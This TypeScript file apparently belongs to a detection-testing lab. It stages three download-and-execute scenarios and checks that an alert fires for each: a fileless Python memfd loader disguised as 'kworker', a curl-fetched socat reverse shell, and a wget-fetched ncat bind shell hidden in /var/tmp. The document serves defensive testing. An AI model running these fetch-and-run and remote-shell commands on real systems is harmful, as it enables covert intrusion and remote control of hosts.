// Session 4: download-and-run variants (issue 11, class 2) staged nowhere else: a fileless (memfd)
// execve, and binaries downloaded to ~/Downloads and /var/tmp. The listeners and helpers are the
// session 4 shells' (scenarios-session4-shells.ts).
import { copyFileSync, mkdirSync, mkdtempSync } from 'node:fs';
import { join } from 'node:path';
import { ADDR, NS, type Lab, type LabProcess } from './lab';
import { mentions } from './scenario-kit';
import type { Scenario } from './scenarios';
import { waitForSocket } from './scenario-kit-net';
import { PORTS, removing, scenario, shellListeners, victimScript } from './scenarios-session4-shells';

const FILES_HOST = ADDR.web[1];
const FILES_PORT = 8090;

/** A plain HTTP file server on the external web host, serving copies of system binaries. */
async function binaryServer(lab: Lab, binaries: Record<string, string>): Promise<LabProcess> {
  const dir = mkdtempSync(join(lab.tmp, 'files-'));
  for (const [name, source] of Object.entries(binaries)) copyFileSync(source, join(dir, name));
  const server = lab.run(NS.ext, ['python3', '-m', 'http.server', '--bind', FILES_HOST, '--directory', dir, String(FILES_PORT)]);
  await waitForSocket(lab, NS.ext, ['-ltn'], `${FILES_HOST}:${FILES_PORT}`);
  return server;
}

const MEMFD_EXEC = String.raw`
import os, urllib.request
data = urllib.request.urlopen("http://${FILES_HOST}:${FILES_PORT}/k").read()
fd = os.memfd_create("kworker", 0)
os.write(fd, data)
os.execv("/proc/self/fd/%d" % fd, ["kworker", "${ADDR.ext}", "${PORTS.memfd}"])
`;

export const SESSION4_DROPPED_SCENARIOS: Scenario[] = [
  scenario({
    id: 's4-dropped-memfd-exec',
    title: `fileless: python3 downloads a binary from ${FILES_HOST}:${FILES_PORT} into memfd_create() and execve()s it; it connects to ${ADDR.ext}:${PORTS.memfd}`,
    expected: 'T1105',
    alsoTrue: ['T1571', 'T1059'],
    mustName: 'exe /memfd:… (deleted) and its lineage',
    windowMs: 12_000,
    stage: async (lab) => {
      const files = await binaryServer(lab, { k: '/bin/nc.openbsd' });
      return victimScript(
        lab,
        `python3 -c '${MEMFD_EXEC}' > /dev/null`,
        (a) => a.ruleId === 'download-exec' && (a.process?.exe ?? '').startsWith('/memfd:kworker') && mentions(a, `${ADDR.ext}:${PORTS.memfd}`),
        await shellListeners(lab, [PORTS.memfd]),
        [files],
      );
    },
  }),
  scenario({
    id: 's4-dropped-downloads-curl-chmod',
    title: `curl -o ~/Downloads/update http://${FILES_HOST}:${FILES_PORT}/update; chmod +x; ~/Downloads/update TCP:${ADDR.ext}:443 EXEC:sh`,
    expected: 'T1105',
    alsoTrue: ['T1059.004', 'T1059', 'T1571'],
    mustName: 'exe ~/Downloads/… and what it does',
    needs: ['curl', 'socat'],
    windowMs: 12_000,
    stage: async (lab) => {
      const files = await binaryServer(lab, { update: '/usr/bin/socat' });
      const dir = join(process.env.HOME ?? '/root', 'Downloads');
      mkdirSync(dir, { recursive: true });
      const exe = join(dir, `nslab-update-${process.pid}`);
      const activity = await victimScript(
        lab,
        `curl -s -o ${exe} http://${FILES_HOST}:${FILES_PORT}/update && chmod +x ${exe} && ${exe} TCP:${ADDR.ext}:443 EXEC:sh`,
        (a) => a.ruleId === 'download-exec' && a.process?.exe === exe,
        files,
      );
      return { ...activity, stop: removing(activity, exe) };
    },
  }),
  scenario({
    id: 's4-dropped-var-tmp-bind-shell',
    title: `wget -qO /var/tmp/.cache-upd http://${FILES_HOST}:${FILES_PORT}/u; chmod +x; /var/tmp/.cache-upd -lk -p 4445 -e /bin/sh (bind shell)`,
    expected: 'T1105',
    alsoTrue: ['T1059', 'T1571'],
    mustName: 'exe /var/tmp/.cache-upd listening on 4445',
    needs: ['wget', 'ncat'],
    windowMs: 12_000,
    stage: async (lab) => {
      const files = await binaryServer(lab, { u: '/usr/bin/ncat' });
      const exe = `/var/tmp/.cache-upd-${process.pid}`;
      const activity = await victimScript(
        lab,
        `wget -qO ${exe} http://${FILES_HOST}:${FILES_PORT}/u && chmod +x ${exe} && ${exe} -lk -p 4445 -e /bin/sh`,
        (a) => a.ruleId === 'download-exec' && a.process?.exe === exe && mentions(a, '4445'),
        files,
      );
      return { ...activity, stop: removing(activity, exe) };
    },
  }),
];
